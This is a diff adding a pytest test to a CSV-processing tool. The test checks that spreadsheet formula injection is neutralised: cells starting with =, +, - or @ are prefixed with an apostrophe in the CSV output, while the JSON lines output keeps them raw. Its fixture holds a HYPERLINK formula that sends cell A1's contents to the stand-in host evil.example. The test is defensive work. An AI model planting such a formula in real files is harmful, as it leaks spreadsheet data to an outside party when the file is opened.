@@ -288,3 +288,22 @@ def test_blank_rows_between_records_are_counted(tmp_path: Path) -> None:
     assert outcome.checkpoint.rows_done == 2 and outcome.checkpoint.blank_rows == 2
     saved = Checkpoint.load(OutputPaths(tmp_path / "out" / "run").checkpoint)
     assert saved.blank_rows == 2  # the trailing ones are no gap between records
+
+
+def test_a_cell_that_would_run_as_a_formula_is_written_as_text(tmp_path: Path) -> None:
+    """A supplier name from a web form, '=HYPERLINK("http://evil.example/?x="&A1,"x")', was
+    written as is into results.csv and ran as a formula when a manager opened the file."""
+    src = tmp_path / "in.csv"
+    src.write_text('Name,Land\n"=HYPERLINK(""http://evil.example/?x=""&A1,""x"")",DE\n'
+                   "@SUM(1+1) HIKVISION,CN\n-Plain Supplier,DE\n", encoding="utf-8")
+    run(tmp_path, src)
+    paths = OutputPaths(tmp_path / "out" / "run")
+    rows = read_csv(paths.rows_csv)
+    assert [r["name"] for r in rows] == [
+        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")", "'@SUM(1+1) HIKVISION",
+        "'-Plain Supplier"]
+    assert all(not r["name"].startswith(("=", "+", "-", "@"))
+               for r in read_csv(paths.hits_csv))
+    # the JSON lines keep the name exactly as read
+    first = json.loads(paths.jsonl.read_text(encoding="utf-8").splitlines()[0])
+    assert first["name"].startswith("=HYPERLINK")
